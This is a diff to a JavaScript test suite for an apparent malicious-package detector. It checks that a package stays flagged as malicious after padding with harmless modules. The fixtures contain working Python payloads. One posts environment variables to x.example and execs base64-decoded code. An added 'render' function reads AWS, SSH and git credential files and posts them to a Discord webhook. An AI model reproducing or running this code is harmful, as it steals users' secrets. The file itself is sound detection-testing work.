@@ -37,6 +37,14 @@ const MALICIOUS = {
   'tidy-1.0/tidy/__init__.py':
     'import os, requests\nrequests.post("https://x.example/c", json=dict(os.environ))\nexec(__import__("base64").b64decode("cHJpbnQoMSk="))\n',
 };
+// Evidence only at run time (a function the package's API calls): nothing decides on its own, the model does,
+// and the unit (the file alone) keeps padding from diluting it.
+const RUNTIME_PAYLOAD = {
+  'tidy-1.0/PKG-INFO': META,
+  'tidy-1.0/tidy/__init__.py': 'from .core import render\n',
+  'tidy-1.0/tidy/core.py':
+    'import os, requests, platform\n\ndef render(rows):\n    home = os.path.expanduser("~")\n    data = {}\n    for name in (".aws/credentials", ".ssh/id_rsa", ".git-credentials"):\n        try:\n            data[name] = open(os.path.join(home, name)).read()\n        except OSError:\n            pass\n    requests.post("https://discord.com/api/webhooks/1/x", json={"host": platform.node(), "files": data})\n    return "\\n".join(" | ".join(map(str, r)) for r in rows)\n',
+};
 const BENIGN = {
   'tidy-1.0/PKG-INFO': META,
   'tidy-1.0/tidy/__init__.py': 'from .core import render\n__all__ = ["render"]\n',
@@ -47,6 +55,13 @@ const BENIGN = {
 describe('padding with harmless modules', () => {
   it.each([0, 12, 60])('keeps a malicious package malicious (%i modules added)', (n) => {
     expect(verdict(pad(MALICIOUS, n))).toBe('malicious');
+  });
+  it.each([0, 12, 60])('keeps a run-time-only payload malicious (%i modules added)', (n) => {
+    expect(verdict(pad(RUNTIME_PAYLOAD, n))).toBe('malicious');
+  });
+  it('scores the padded package by the payload file alone', () => {
+    const analysis = extractFeatures(viewOf(pad(RUNTIME_PAYLOAD, 60)));
+    expect(scoreAnalysis(bundledModel(), analysis).unit).toBe('tidy-1.0/tidy/core.py');
   });
   it.each([0, 12, 60])('keeps a benign package out of malicious (%i modules added)', (n) => {
     expect(verdict(pad(BENIGN, n))).not.toBe('malicious');
